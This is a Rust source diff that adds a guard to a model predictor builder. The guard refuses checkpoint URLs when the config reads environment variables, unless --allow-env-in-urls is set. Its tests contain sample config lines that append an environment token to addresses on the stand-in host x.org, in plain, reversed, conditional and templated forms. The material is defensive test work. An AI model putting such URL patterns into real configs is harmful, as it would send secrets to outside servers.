@@ -5,7 +5,7 @@ use std::sync::Arc;
 use burn::tensor::Device;
 
 use crate::build::OpenCheckpoint;
-use crate::config::{Config, ConfigErrors, Diagnostic};
+use crate::config::{Config, ConfigErrors, Diagnostic, cut};
 use crate::data::Lookup;
 use crate::data::pipeline::Pipeline;
 use crate::data::preprocessor::DetDataPreprocessor;
@@ -14,6 +14,7 @@ use crate::limits;
 use crate::model;
 use crate::predict::Predictor;
 use crate::registry::Registry;
+use crate::weights::names::asks_a_stranger;
 use crate::weights::{Checkpoint, LoadReport, Wanted, report};
 
 /// How to make a [`Predictor`].
@@ -22,9 +23,10 @@ pub struct PredictorBuilder<'a> {
     checkpoint: Option<Arc<Checkpoint>>,
     device: Option<&'a Device>,
     registry: Option<&'a Registry>,
-    open: Option<&'a OpenCheckpoint>,
+    open: Option<&'a OpenCheckpoint<'a>>,
     prefix: Option<&'a str>,
     allow_incomplete: bool,
+    allow_env_in_urls: bool,
 }
 
 impl<'a> PredictorBuilder<'a> {
@@ -47,7 +49,7 @@ impl<'a> PredictorBuilder<'a> {
     }
 
     /// How to get the checkpoints that `init_cfg` and `load_from` name; used where [`PredictorBuilder::checkpoint`] is not.
-    pub fn open_with(mut self, open: &'a OpenCheckpoint) -> Self {
+    pub fn open_with(mut self, open: &'a OpenCheckpoint<'a>) -> Self {
         self.open = Some(open);
         self
     }
@@ -63,6 +65,32 @@ impl<'a> PredictorBuilder<'a> {
     pub fn allow_incomplete(mut self, allow: bool) -> Self {
         self.allow_incomplete = allow;
         self
+    }
+
+    /// Whether addresses of a config that read environment variables are opened, instead of being an error: their server would see what was
+    /// computed from the variables. Addresses of torchvision, OpenMMLab and timm are opened in any case.
+    pub fn allow_env_in_urls(mut self, allow: bool) -> Self {
+        self.allow_env_in_urls = allow;
+        self
+    }
+
+    /// Why the checkpoint that the config calls `name` is not to be opened, if so.
+    fn refusal(&self, name: &str) -> Option<String> {
+        let read: Vec<_> = self
+            .config
+            .env
+            .iter()
+            .map(|(name, _)| format!("`{name}`"))
+            .collect();
+        let told = !read.is_empty() && !self.allow_env_in_urls && asks_a_stranger(name);
+        told.then(|| {
+            format!(
+                "this config reads the environment ({}), and its address may tell the server what it read: `{}`; if that is meant, allow \
+                 it with --allow-env-in-urls",
+                read.join(", "),
+                cut(name, 1000)
+            )
+        })
     }
 
     /// Whether the weights are good enough; `whole`, if they should be those of the whole model.
@@ -86,7 +114,13 @@ impl<'a> PredictorBuilder<'a> {
             }
         };
         let device = self.device.cloned().unwrap_or_else(Device::flex);
-        let checkpoint = match (&self.checkpoint, self.open) {
+        let open = |name: &str| match (self.refusal(name), self.open) {
+            (Some(why), _) => Err(why),
+            (None, Some(open)) => open(name),
+            (None, None) => Err(format!("nothing opens `{name}`")),
+        };
+        let open: Option<&OpenCheckpoint> = self.open.is_some().then_some(&open);
+        let checkpoint = match (&self.checkpoint, open) {
             (Some(checkpoint), _) => Some(checkpoint.clone()),
             (None, Some(open)) => load_from(self.config, open)?,
             (None, None) => None,
@@ -112,7 +146,7 @@ impl<'a> PredictorBuilder<'a> {
             .clone()
             .map(|c| Box::new(StateSource::new(c, self.prefix)) as Box<_>);
         let params = Params::new(&device, Mode::Fixed, source);
-        let open = self.open.filter(|_| checkpoint.is_none());
+        let open = open.filter(|_| checkpoint.is_none());
         let detector = model::build(self.config, registry, params.clone(), open).map_err(errors)?;
         let unreadable = params.unreadable();
         let report = match report {
@@ -162,6 +196,7 @@ impl Predictor {
             open: None,
             prefix: None,
             allow_incomplete: false,
+            allow_env_in_urls: false,
         }
     }
 }
@@ -210,5 +245,75 @@ impl std::error::Error for LoadError {}
 impl From<ConfigErrors> for LoadError {
     fn from(errors: ConfigErrors) -> Self {
         LoadError::Config(errors)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::config::MapLoader;
+    use std::cell::Cell;
+
+    const MODEL: &str = "
+model = dict(
+    type='RetinaNet', backbone=dict(type='ResNet', depth=18, base_channels=2, init_cfg=INIT),
+    neck=dict(type='FPN', out_channels=4, num_outs=5),
+    bbox_head=dict(type='RetinaHead', num_classes=2, in_channels=4, feat_channels=4, stacked_convs=1),
+    test_cfg=dict(nms_pre=9, max_per_img=9, nms=dict(type='nms', iou_threshold=0.5)))
+test_pipeline = [dict(type='LoadImageFromFile'), dict(type='PackDetInputs')]
+";
+
+    /// Whether an address is asked, and what is said.
+    fn opened(head: &str, init: &str, allow: bool) -> (bool, String) {
+        let text = format!("import os\n{head}\n{}", MODEL.replace("INIT", init));
+        let mut loader = MapLoader::new([("a.py", &*text)]);
+        loader.env.insert("TOKEN".into(), "secret".into());
+        let config = Config::load("a.py", &loader).unwrap();
+        let asked = Cell::new(false);
+        let open = |_: &str| {
+            asked.set(true);
+            Err("no network".to_string())
+        };
+        let builder = Predictor::builder(&config).open_with(&open);
+        let built = builder.allow_env_in_urls(allow).build();
+        (asked.get(), built.unwrap_err().to_string())
+    }
+
+    #[test]
+    fn the_environment_is_not_told_to_strangers() {
+        let secret = [
+            ("load_from = 'http://x.org/' + os.environ['TOKEN']", "None"),
+            ("load_from = 'http://x.org/{{$TOKEN:}}'", "None"),
+            (
+                "load_from = f\"https://x.org/{os.getenv('TOKEN')[::-1]}.pth\"",
+                "None",
+            ),
+            (
+                "load_from = 'http://x.org/s' if os.environ.get('TOKEN') == 's' else 'http://x.org/t'",
+                "None",
+            ),
+            ("load_from = '//x.org/share/' + os.environ['TOKEN']", "None"),
+            (
+                "t = '{{$TOKEN:}}'",
+                "dict(type='Pretrained', checkpoint='http://x.org/' + t)",
+            ),
+        ];
+        for (head, init) in secret {
+            let (asked, text) = opened(head, init, false);
+            assert!(
+                !asked && text.contains("`TOKEN`") && text.contains("x.org"),
+                "{text}"
+            );
+            assert!(text.contains("--allow-env-in-urls"), "{text}");
+            assert!(opened(head, init, true).0, "{head}");
+        }
+        for head in [
+            "load_from = 'http://x.org/a.pth'",
+            "load_from = '{{$OTHER:http://x.org/a.pth}}'",
+            "load_from = 'torchvision://resnet18'\nwork_dir = os.environ['TOKEN']",
+            "load_from = '/checkpoints/' + os.environ['TOKEN']",
+        ] {
+            assert!(opened(head, "None", false).0, "{head}");
+        }
     }
 }
